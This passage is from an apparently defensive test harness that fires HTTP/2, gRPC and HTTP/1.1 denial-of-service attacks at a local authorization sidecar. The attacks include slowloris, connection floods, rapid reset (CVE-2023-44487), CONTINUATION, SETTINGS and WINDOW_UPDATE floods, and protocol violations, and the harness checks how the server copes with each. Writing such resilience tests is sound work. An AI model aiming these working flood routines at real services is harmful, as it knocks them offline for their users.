        size += len(name) + len(value) + 32
        i += 1
    return bytes(block)


# --- attacks ------------------------------------------------------------------------------------

ATTACK_SECONDS = 2.5
"""Every attack stops sending after this (each test stays near 3 s, the suite within minutes)."""
HOLD_SECONDS = 0.4
"""What an attack made the server hold is held this long before the connections close."""
SMALL_BUDGET = MB
"""The traffic of an attack that is not about volume."""


@dataclass
class Outcome:
    sent: int = 0
    ended: str = ""
    """How the attacker's connections ended: ``GOAWAY <code>``, ``closed without GOAWAY``, ``stayed open``."""
    facts: list[str] = field(default_factory=list)
    """Stable observations for the table (``admitted 127 of 400``)."""
    notes: list[str] = field(default_factory=list)
    """Figures that vary run to run (printed, never in the table)."""
    problems: list[str] = field(default_factory=list)
    """Class-specific expectations missed (a wrong GOAWAY code, a refused well-behaved connection)."""
    allowed: int = 0
    """Checks answered with an allow that the attack did not send as a complete, valid Check."""


def endings(conns: list[H2]) -> str:
    for conn in conns:
        conn.pump(0)
    return " / ".join(sorted({conn.outcome() for conn in conns})) or "no connection"


def _hold(conns: list[H2], m: Measure, seconds: float = HOLD_SECONDS, sync: bool = True) -> None:
    """Let the server read everything (a PING answered on each connection), then hold what it holds."""
    if sync:
        markers = {}
        for conn in conns:
            markers[conn] = os.urandom(8)
            conn.write(frame(PING, 0, 0, markers[conn]))
        end = time.monotonic() + SYNC_SECONDS
        for conn in conns:
            conn.wait(lambda c=conn: markers[c] in c.ping_acks, max(0.0, end - time.monotonic()))
    end = time.monotonic() + seconds
    while time.monotonic() < end and not m.abort.is_set():
        for conn in conns:
            conn.pump(0)
        time.sleep(0.02)


def _open(port: int, m: Measure, deadline: float, **kwargs: Any) -> H2 | None:
    if m.stop_at(deadline):
        return None
    try:
        conn = H2(port, timeout=1.0, **kwargs)
    except OSError:
        return None
    if conn.closed or not conn.server_settings_seen:
        conn.close()
        return None
    return conn


def _new_connection_fact(port: int, out: Outcome, http: bool = False) -> None:
    served = fresh_http_served(port) if http else fresh_connection_served(port)
    out.facts.append("a new connection was served" if served else "a new connection was refused")
    if not served:
        out.problems.append("a new well-behaved connection was not served during the attack")


def _closed_by_server(closed: int, count: int) -> str:
    share = "none" if not closed else "all" if closed == count else "some"
    return f"{share} closed by the server within {ATTACK_SECONDS:g} s"


def unfinished_frames(sc: Sidecar, m: Measure, count: int = 200) -> Outcome:
    """Class 1: connections each holding a DATA frame announced at the largest size the server accepts
    (its SETTINGS_MAX_FRAME_SIZE, within the stream's window), all of it sent but its last byte."""
    out = Outcome()
    deadline = time.monotonic() + ATTACK_SECONDS
    conns: list[H2] = []
    tried = 0
    with all_closed(conns):
        while tried < count and not m.stop_at(deadline):
            tried += 1
            conn = _open(sc.grpc_port, m, deadline)
            if conn is None:
                continue
            conns.append(conn)
            stream, head = conn.headers(request_fields())
            size = min(conn.max_frame, conn.window(stream))
            body = b"\x00" + (8 << 20).to_bytes(4, "big") + b"x" * (size - 6)
            conn.write(head + frame(DATA, 0, stream, body, length=size), deadline)
        _hold(conns, m, sync=False)
        out.ended = endings(conns)
        out.sent = sum(c.sent for c in conns)
        out.notes.append(f"{len(conns)} of {tried} connections admitted")
    return out


def connection_flood(sc: Sidecar, m: Measure, count: int = 400) -> Outcome:
    """Class 1: far more connections than any Envoy opens, each with a preface and SETTINGS, then idle."""
    out = Outcome()
    deadline = time.monotonic() + ATTACK_SECONDS
    conns: list[H2] = []
    with all_closed(conns):
        for _ in range(count):
            conn = _open(sc.grpc_port, m, deadline)
            if conn is not None:
                conns.append(conn)
        _new_connection_fact(sc.grpc_port, out)
        _hold(conns, m)
        out.ended = endings(conns)
        out.sent = sum(c.sent for c in conns)
        out.notes.insert(0, f"{len(conns)} of {count} admitted")
    return out


def slowloris(sc: Sidecar, m: Measure, count: int = 400, port: int | None = None, http: bool = False) -> Outcome:
    """Class 1 (and 12): connections that never send a byte (no preface, no request)."""
    out = Outcome()
    socks: list[socket.socket] = []
    with all_closed(socks):
        for _ in range(count):
            try:
                socks.append(socket.create_connection(("127.0.0.1", port or sc.grpc_port), 1.0))
            except OSError:
                break
        time.sleep(0.3)
        _new_connection_fact(port or sc.grpc_port, out, http)
        end = time.monotonic() + ATTACK_SECONDS - 0.3
        while time.monotonic() < end and not m.abort.is_set():
            time.sleep(0.05)
        closed = 0
        for sock in socks:
            sock.setblocking(False)
            try:
                closed += sock.recv(1) == b""
            except BlockingIOError:
                pass
            except OSError:
                closed += 1
        out.ended = _closed_by_server(closed, len(socks))
    return out


def large_messages(sc: Sidecar, m: Measure, streams_per_connection: int = 100, max_connections: int = 120) -> Outcome:
    """Class 2: streams each holding a gRPC message declared at 8 MiB, sent as far as the windows allow."""
    out = Outcome()
    deadline = time.monotonic() + ATTACK_SECONDS
    conns: list[H2] = []
    declared = 8 << 20
    with all_closed(conns):
        while len(conns) < max_connections and not m.stop_at(deadline):
            conn = _open(sc.grpc_port, m, deadline)
            if conn is None:
                break
            conns.append(conn)
            piece = b"x" * conn.max_frame
            left: dict[int, int] = {}
            batch = bytearray()
            for _ in range(min(conn.max_streams, streams_per_connection)):
                stream, head = conn.headers(request_fields())
                batch += head
                left[stream] = declared + 5 - 1  # the whole message but its last byte
            conn.write(batch, deadline)
            stalled = 0.0
            while left and not conn.closed and not m.stop_at(deadline):
                batch = bytearray()
                for stream in list(left):
                    size = min(conn.window(stream), left[stream])
                    first = left[stream] == declared + 4
                    if size <= 0 or (first and size < 5):
                        continue  # the message's 5-byte prefix goes out whole
                    sent = 0
                    while sent < size:
                        n = min(size - sent, conn.max_frame)
                        payload = b"\x00" + declared.to_bytes(4, "big") + piece[:n - 5] if first and not sent \
                            else piece[:n]
                        batch += frame(DATA, 0, stream, payload)
                        sent += n
                    conn.conn_window -= size
                    conn.stream_windows[stream] -= size
                    left[stream] -= size
                if batch:
                    conn.write(batch, deadline)
                    stalled = 0.0
                elif not stalled:
                    stalled = time.monotonic()
                elif time.monotonic() - stalled > 0.2:
                    break  # no more credit: this connection holds what it will hold
                conn.pump(0 if batch else 0.02)
            out.notes.append(f"{sum(declared + 4 - n for n in left.values()) >> 20} MiB")
        _hold(conns, m)
        out.ended = endings(conns)
        out.sent = sum(c.sent for c in conns)
        out.notes.append(f"{len(conns)} connections")
    return out


def no_window(sc: Sidecar, m: Measure, path_bytes: int = 30_000, per_connection: int = 20,
              max_connections: int = 60) -> Outcome:
    """Class 3: a peer granting no window (SETTINGS_INITIAL_WINDOW_SIZE 0, no connection WINDOW_UPDATE)
    sends allowed Checks whose answers are large: a 30 KB path under a filtered route is answered with
    ~40 KB (the response phase's hand-off carries the path). Longer paths are denied with a small answer,
    since the hand-off is bounded (48 KiB encoded), so this is about the largest allow a path buys."""
    out = Outcome()
    deadline = time.monotonic() + ATTACK_SECONDS
    token = sc.token()
    conns: list[H2] = []
    with all_closed(conns):
        n = 0
        while len(conns) < max_connections and not m.stop_at(deadline):
            conn = _open(sc.grpc_port, m, deadline, client_settings=((S_INITIAL_WINDOW_SIZE, 0),))
            if conn is None:
                break
            conn.give_credit = False
            conns.append(conn)
            for _ in range(min(per_connection, conn.max_streams)):
                if conn.closed or m.stop_at(deadline):
                    break
                n += 1
                message = grpc_message(check_request(f"/v1/filtered/{n}-" + "a" * path_bytes, token))
                stream, head = conn.headers(request_fields())
                conn.write(head, deadline)
                if conn.send_body(stream, message, True, min(deadline, time.monotonic() + 0.5)) < len(message):
                    break  # the server stopped granting window for requests: this connection is full
        _hold(conns, m)
        out.ended = endings(conns)
        out.sent = sum(c.sent for c in conns)
        out.notes.append(f"{n} Checks on {len(conns)} connections")
    return out


def open_header_blocks(sc: Sidecar, m: Measure, max_connections: int = 120) -> Outcome:
    """Class 4: streams opened with header blocks as large as the server accepts, never ended."""
    out = Outcome()
    deadline = time.monotonic() + ATTACK_SECONDS
    conns: list[H2] = []
    with all_closed(conns):
        n = 0
        while len(conns) < max_connections and not m.stop_at(deadline):
            conn = _open(sc.grpc_port, m, deadline)
            if conn is None:
                break
            conns.append(conn)
            size = min(conn.max_header_list, 64 << 10)
            for _ in range(min(conn.max_streams, 1000)):
                if conn.closed or m.stop_at(deadline):
                    break
                n += 1
                _, head = conn.headers([], block=padded_block(request_fields(), size, f"s{n}"))
                conn.write(head, deadline)
            conn.pump(0)
        _hold(conns, m)
        out.ended = endings(conns)
        out.sent = sum(c.sent for c in conns)
        out.notes.append(f"{n} streams on {len(conns)} connections")
    return out


def remembered_blocks(sc: Sidecar, m: Measure, per_connection: int = 100, max_connections: int = 120) -> Outcome:
    """Class 5: idle connections, each having sent many complete requests with distinct literal blocks."""
    out = Outcome()
    deadline = time.monotonic() + ATTACK_SECONDS
    conns: list[H2] = []
    with all_closed(conns):
        n = 0
        while len(conns) < max_connections and not m.stop_at(deadline):
            conn = _open(sc.grpc_port, m, deadline)
            if conn is None:
                break
            conns.append(conn)
            size = min(conn.max_header_list, 64 << 10)
            batch = max(1, min(conn.max_streams, 50))
            done = 0
            while done < per_connection and not conn.closed and not m.stop_at(deadline):
                streams = set()
                for _ in range(min(batch, per_connection - done)):
                    n += 1
                    stream, head = conn.headers([], end_stream=True,
                                                block=padded_block(request_fields(UNKNOWN_METHOD), size, f"b{n}"))
                    conn.write(head, deadline)
                    streams.add(stream)
                done += len(streams)
                conn.wait_streams(max(0.0, min(1.0, deadline - time.monotonic())), streams)
        _hold(conns, m)
        out.ended = endings(conns)
        out.sent = sum(c.sent for c in conns)
        out.notes.append(f"{n} requests on {len(conns)} connections")
    return out


def rapid_reset(sc: Sidecar, m: Measure, budget: int = SMALL_BUDGET) -> Outcome:
    """Class 6: HEADERS + DATA + RST_STREAM(CANCEL), again and again on one connection (CVE-2023-44487).

    Every stream is closed by the client at once, so none counts against
    SETTINGS_MAX_CONCURRENT_STREAMS: the server starts Checks it can never answer.
    """
    out = Outcome()
    deadline = time.monotonic() + ATTACK_SECONDS
    conn = _open(sc.grpc_port, m, deadline)
    assert conn is not None, "the server took no connection"
    message = grpc_message(check_request())
    blocks: list[bytes] = []
    with conn:
        while conn.sent < budget and not conn.closed and conn.goaway is None and not m.stop_at(deadline):
            batch = bytearray()
            for _ in range(64):
                if len(blocks) < 2:
                    blocks.append(conn.encoder.encode(request_fields()))  # from the second on: indexes only
                stream = conn.new_stream()
                batch += frame(HEADERS, END_HEADERS, stream, blocks[-1])
                if conn.window(stream) >= len(message):
                    batch += conn.data_frames(stream, message, True)
                batch += frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
                conn.open_streams.discard(stream)
                conn.stream_windows.pop(stream, None)
            conn.write(batch, deadline)
            conn.pump(0)
        out.ended = _flood_end(conn)
        out.sent = conn.sent
        out.notes.append(f"{(conn.next_stream - 1) // 2} streams reset")
    return out


def _flood_end(conn: H2) -> str:
    """How a flooding connection ended, once the server has read the flood (or cut it off)."""
    if conn.goaway is None and not conn.closed:
        conn.sync()
    if conn.goaway is not None:
        conn.wait_end(0.5)
    return conn.outcome()


def continuation_flood(sc: Sidecar, m: Measure, empty: bool, budget: int = SMALL_BUDGET) -> Outcome:
    """Class 7: a HEADERS without END_HEADERS, then CONTINUATION frames that never end the block.

    The 2024 CONTINUATION floods (CVE-2024-27316, CVE-2024-27983 and others): a server
    that buffers the block until END_HEADERS, or spends CPU on each empty frame, is
    exhausted by a block that never ends.
    """
    out = Outcome()
    deadline = time.monotonic() + ATTACK_SECONDS
    conn = _open(sc.grpc_port, m, deadline)
    assert conn is not None, "the server took no connection"
    with conn:
        stream = conn.new_stream()
        block = b"".join(literal(n.encode(), v.encode()) for n, v in request_fields())
        conn.in_block = True  # the block never ends: the server's SETTINGS or PINGs are not answered
        conn.write(frame(HEADERS, 0, stream, block), deadline)
        if empty:
            batch = frame(CONTINUATION, 0, stream) * 4096
        else:
            piece = bytearray()
            i = 0
            while len(piece) < conn.max_frame - 64:
                piece += literal(f"x-c{i}".encode(), b"c" * 48)
                i += 1
            batch = frame(CONTINUATION, 0, stream, bytes(piece)) * max(1, (64 << 10) // len(piece))
        while conn.sent < budget and not conn.closed and conn.goaway is None and not m.stop_at(deadline):
            conn.write(batch, deadline)
            conn.pump(0)
        # No PING to wait on: it would interrupt the header block. The server has the time to cut it off.
        out.ended = conn.wait_end(SYNC_SECONDS)
        out.sent = conn.sent
    return out


def _open_streams(conn: H2, count: int, deadline: float) -> list[int]:
    streams = []
    for _ in range(min(count, conn.max_streams)):
        stream, head = conn.headers(request_fields())
        conn.write(head, deadline)
        streams.append(stream)
    conn.pump(0.05)
    return streams


def settings_flood(sc: Sidecar, m: Measure, window_changes: bool, budget: int = SMALL_BUDGET) -> Outcome:
    """Class 8: SETTINGS frames (empty, or changing INITIAL_WINDOW_SIZE) while ~100+ streams are open."""
    out = Outcome()
    deadline = time.monotonic() + ATTACK_SECONDS
    conn = _open(sc.grpc_port, m, deadline)
    assert conn is not None, "the server took no connection"
    with conn:
        streams = _open_streams(conn, 150, deadline)
        if window_changes:
            batch = b"".join(settings((S_INITIAL_WINDOW_SIZE, 65_535 + (i & 1))) for i in range(2048))
        else:
            batch = settings() * 4096
        while conn.sent < budget and not conn.closed and conn.goaway is None and not m.stop_at(deadline):
            conn.write(batch, deadline)
            conn.pump(0)
        out.ended = _flood_end(conn)
        out.sent = conn.sent
        out.notes.append(f"{len(streams)} streams open")
    return out


def window_update_flood(sc: Sidecar, m: Measure, on_streams: bool, budget: int = SMALL_BUDGET) -> Outcome:
    """Class 9: 1-byte WINDOW_UPDATEs (the connection's, or round-robin over the streams') while the
    answers of allowed Checks wait for window."""
    out = Outcome()
    deadline = time.monotonic() + ATTACK_SECONDS
    initial = 0 if on_streams else MAX_WINDOW
    conn = _open(sc.grpc_port, m, deadline, client_settings=((S_INITIAL_WINDOW_SIZE, initial),))
    assert conn is not None, "the server took no connection"
    conn.give_credit = False
    token = sc.token()
    with conn:
        streams = []
        for i in range(min(10, conn.max_streams)):
            message = grpc_message(check_request(f"/v1/filtered/w{i}-" + "a" * 15_000, token))
            stream, head = conn.headers(request_fields())
            conn.write(head, deadline)
            conn.send_body(stream, message, True, deadline)
            streams.append(stream)
        conn.pump(0.2)
        if on_streams:
            batch = b"".join(window_update(streams[i % len(streams)], 1) for i in range(4096))
        else:
            batch = window_update(0, 1) * 4096
        while conn.sent < budget and not conn.closed and conn.goaway is None and not m.stop_at(deadline):
            conn.write(batch, deadline)
            conn.pump(0)
        out.ended = _flood_end(conn)
        out.sent = conn.sent
    return out


def small_frame_flood(sc: Sidecar, m: Measure, kind: str, budget: int = SMALL_BUDGET) -> Outcome:
    """Class 10: PINGs never read, empty DATA frames on an open stream, or PRIORITY frames."""
    out = Outcome()
    deadline = time.monotonic() + ATTACK_SECONDS
    conn = _open(sc.grpc_port, m, deadline)
    assert conn is not None, "the server took no connection"
    with conn:
        stream, head = conn.headers(request_fields())
        conn.write(head, deadline)
        if kind == "ping":
            batch = b"".join(frame(PING, 0, 0, struct.pack(">Q", i)) for i in range(4096))
        elif kind == "empty data":
            batch = frame(DATA, 0, stream) * 4096
        else:  # PRIORITY on the open stream and on idle ones, never depending on itself
            batch = b"".join(frame(PRIORITY, 0, stream + 2 * (i % 50), struct.pack(">IB", 0, 15))
                             for i in range(4096))
        reading = kind != "ping"
        while conn.sent < budget and not conn.closed and conn.goaway is None and not m.stop_at(deadline):
            if conn.write(batch, deadline, read=reading) < len(batch):
                break  # the server stopped reading: the socket is full
            if reading:
                conn.pump(0)
        out.ended = _flood_end(conn)
        out.sent = conn.sent
    return out


VIOLATIONS: dict[str, str] = {
    "bad preface": "PROTOCOL_ERROR",
    "frame over the max size": "FRAME_SIZE_ERROR",
    "DATA beyond a stream's window": "FLOW_CONTROL_ERROR",
    "DATA on stream 0": "PROTOCOL_ERROR",
    "HEADERS on an even stream": "PROTOCOL_ERROR",
    "header block interrupted by PING": "PROTOCOL_ERROR",
    "malformed HPACK (index 0)": "COMPRESSION_ERROR",
    "SETTINGS_ENABLE_PUSH 2": "PROTOCOL_ERROR",
    "SETTINGS_INITIAL_WINDOW_SIZE 2^31": "FLOW_CONTROL_ERROR",
    "SETTINGS_MAX_FRAME_SIZE 16383": "PROTOCOL_ERROR",
    "WINDOW_UPDATE overflowing the connection window": "FLOW_CONTROL_ERROR",
}
"""Each violation and the error code RFC 9113 gives it (a connection error in every case)."""


def _overrun_window(conn: H2, fields: list[tuple[str, str]]) -> None:
    """One message that fills its stream's window exactly, and one byte more, in one write.

    A server grants credit for what it has consumed, or for a message's declared
    length once it has read its prefix; neither can cover a byte beyond a
    message it has not yet answered, written before any of it was read. So the
    last byte is beyond the stream's window whatever the server grants, and
    within the connection's (a window the peer overruns, RFC 9113 6.9.1).
    """
    stream, head = conn.headers(fields)
    window = min(conn.stream_windows[stream], conn.conn_window - 1)
    message = b"\x00" + (window - 5).to_bytes(4, "big") + b"x" * (window - 5) + b"\x00"
    batch = bytearray(head)
    for offset in range(0, len(message), conn.max_frame):
        batch += frame(DATA, 0, stream, message[offset:offset + conn.max_frame])
    conn.write(batch)


def violation(sc: Sidecar, m: Measure, case: str) -> Outcome:
    """Class 11: one protocol violation on a fresh connection; the server should GOAWAY with its code and close."""
    out = Outcome()
    conn = H2(sc.grpc_port, handshake=case != "bad preface")
    with conn:
        fields = request_fields()
        if case == "bad preface":
            conn.write(b"GET / HTTP/1.1\r\nhost: extauthz\r\n\r\n")
        elif case == "frame over the max size":
            block = padded_block(fields, 2 * conn.max_frame + 4096, "big")[:conn.max_frame + 1]
            assert len(block) == conn.max_frame + 1
            conn.write(frame(HEADERS, END_HEADERS, 1, block))
        elif case == "DATA beyond a stream's window":
            _overrun_window(conn, fields)
        elif case == "DATA on stream 0":
            conn.write(frame(DATA, 0, 0, b"x"))
        elif case == "HEADERS on an even stream":
            conn.write(frame(HEADERS, END_HEADERS, 2, conn.encoder.encode(fields)))
        elif case == "header block interrupted by PING":
            block = conn.encoder.encode(fields)
            conn.write(frame(HEADERS, 0, 1, block[:4]) + frame(PING, 0, 0, b"12345678"))
        elif case == "malformed HPACK (index 0)":
            conn.write(frame(HEADERS, END_HEADERS, 1, b"\x80"))
        elif case == "SETTINGS_ENABLE_PUSH 2":
            conn.write(settings((S_ENABLE_PUSH, 2)))
        elif case == "SETTINGS_INITIAL_WINDOW_SIZE 2^31":
            conn.write(settings((S_INITIAL_WINDOW_SIZE, 2**31)))
        elif case == "SETTINGS_MAX_FRAME_SIZE 16383":
            conn.write(settings((S_MAX_FRAME_SIZE, 16_383)))
        elif case == "WINDOW_UPDATE overflowing the connection window":
            conn.write(window_update(0, MAX_WINDOW))
        else:
            raise ValueError(case)
        out.ended = conn.wait_end(1.0)
        out.sent = conn.sent
    return out


def deadline_check(sc: Sidecar, timeout: str = "100m") -> tuple[int | None, float, str]:
    """Class 13: a Check that waits for a PDP that never answers, sent with ``grpc-timeout``.

    Returns its grpc-status (None if none came), how long it took, and how the connection ended.
    """
    with H2(sc.grpc_port) as conn:
        started = time.monotonic()
        stream = conn.request(check_request("/slow/1", sc.token()), timeout=timeout)
        conn.wait_streams(3.0, {stream})
        took = time.monotonic() - started
        return conn.status(stream), took, conn.outcome()


# --- HTTP/1.1 -----------------------------------------------------------------------------------


def _read_answers(sock: socket.socket, want: int, deadline: float,
                  until_closed: bool = False) -> tuple[list[int], bool]:
    """Statuses of the answers read until ``want`` came (and, ``until_closed``, the server closed), the server
    closed, or the deadline; and closed."""
    sock.setblocking(False)
    buf = bytearray()
    statuses: list[int] = []
    closed = False
    while (len(statuses) < want or until_closed) and time.monotonic() < deadline:
        readable, _, _ = select.select([sock], [], [], 0.05)
        if not readable:
            continue
        try:
            chunk = sock.recv(1 << 20)
        except BlockingIOError:
            continue
        except OSError:
            closed = True
            break
        if not chunk:
            closed = True
            break
        buf += chunk
        while True:
            end = buf.find(b"\r\n\r\n")
            if end < 0:
                break
            head = bytes(buf[:end]).decode("latin-1")
            length = 0
            for line in head.split("\r\n")[1:]:
                name, _, value = line.partition(":")
                if name.strip().lower() == "content-length":
                    length = int(value)
            if len(buf) < end + 4 + length:
                break
            statuses.append(int(head.split(" ", 2)[1]))
            del buf[:end + 4 + length]
    return statuses, closed


def http_pipelined(sc: Sidecar, m: Measure, count: int = 1000) -> Outcome:
    """Class 12: ~1,000 check requests in one write on one keep-alive connection, answered in order.

    Every seventh carries a valid token (200), the rest none (401): the order of the
    statuses shows whether each answer went to its own request.
    """
    out = Outcome()
    token = sc.token()
    expected = [200 if i % 7 == 0 else 401 for i in range(count)]
    data = b"".join(http_check(f"/v1/orders/{i}", token if status == 200 else None)
                    for i, status in enumerate(expected))
    with socket.create_connection(("127.0.0.1", sc.http_port), 2) as sock:
        sock.sendall(data)
        out.sent = len(data)
        statuses, closed = _read_answers(sock, count, time.monotonic() + 5)
    out.facts.append("answered in order" if statuses == expected else "not answered in order")
    out.ended = "closed" if closed else "stayed open"
    if statuses != expected:
        out.problems.append(f"answered {len(statuses)} of {count}, not each with its own status in order")
    out.allowed = sum(1 for got, want in zip(statuses, expected, strict=False) if got == 200 and want != 200)
    return out


def http_trickle(sc: Sidecar, m: Measure, count: int = 50) -> Outcome:
    """Class 12: request heads that arrive a byte at a time (each connection a byte every ~20 ms)."""
    out = Outcome()
    head = http_check()[:-2] + b"x-pad: " + b"p" * 4000 + b"\r\n\r\n"  # longer than the attack lasts
    socks: list[socket.socket] = []
    with all_closed(socks):
        for _ in range(count):
            socks.append(socket.create_connection(("127.0.0.1", sc.http_port), 1))
        deadline = time.monotonic() + ATTACK_SECONDS
        i = 0
        while time.monotonic() < deadline and i < len(head) and not m.abort.is_set():
            for sock in socks:
                with contextlib.suppress(OSError):
                    out.sent += sock.send(head[i:i + 1])
            i += 1
            time.sleep(0.02)
        _new_connection_fact(sc.http_port, out, http=True)
        closed = 0
        for sock in socks:
            sock.setblocking(False)
            try:
                closed += sock.recv(1) == b""
            except BlockingIOError:
                pass
            except OSError:
                closed += 1
        out.ended = _closed_by_server(closed, count)
    return out


def http_flood(sc: Sidecar, m: Measure, count: int = 1100) -> Outcome:
    """Class 12: more connections than the listener takes, each sending one check and staying open."""
    out = Outcome()
    socks: list[socket.socket] = []
    with all_closed(socks):
        deadline = time.monotonic() + ATTACK_SECONDS
        request = http_check()
        failed = 0
        for _ in range(count):
            if time.monotonic() >= deadline:
                break
            try:
                sock = socket.create_connection(("127.0.0.1", sc.http_port), 0.5)
            except OSError:
                failed += 1
                continue
            socks.append(sock)
            with contextlib.suppress(OSError):
                sock.sendall(request)
                out.sent += len(request)
        time.sleep(0.3)
        answered = 0
        for sock in socks:
            sock.setblocking(False)
            with contextlib.suppress(OSError):
                answered += sock.recv(16).startswith(b"HTTP/1.1 401")
        _new_connection_fact(sc.http_port, out, http=True)
        out.notes.insert(0, f"{answered} of {len(socks)} answered, {failed} connections failed")
        out.ended = "stayed open"
    return out


def http_huge_head(sc: Sidecar, m: Measure, size: int = MB) -> Outcome:
    """Class 12: one request head that never ends (1 MB of header lines)."""
    out = Outcome()
    with socket.create_connection(("127.0.0.1", sc.http_port), 2) as sock:
        sock.setblocking(False)
        data = http_check()[:-2] + b"".join(b"x-h%05d: %s\r\n" % (i, b"h" * 90) for i in range(size // 100))
        view = memoryview(data)
        deadline = time.monotonic() + ATTACK_SECONDS
        while out.sent < len(data) and time.monotonic() < deadline:
            try:
                out.sent += sock.send(view[out.sent:])
            except BlockingIOError:
                select.select([], [sock], [], 0.05)
            except OSError:
                break
        statuses, closed = _read_answers(sock, 1, time.monotonic() + 1, until_closed=True)
    out.ended = (f"{statuses[0]}" if statuses else "no answer") + (", closed" if closed else ", left open")
    if statuses != [400] or not closed:
        out.problems.append(f"expected a 400 and the connection closed, saw {out.ended}")
    return out


if __name__ == "__main__":
    if len(sys.argv) == 4 and sys.argv[1] == "probe":
        _probe_main(sys.argv[2], int(sys.argv[3]))
    else:
        sys.exit("usage: python -m tests.e2e.security.transport_harness probe grpc|http PORT")
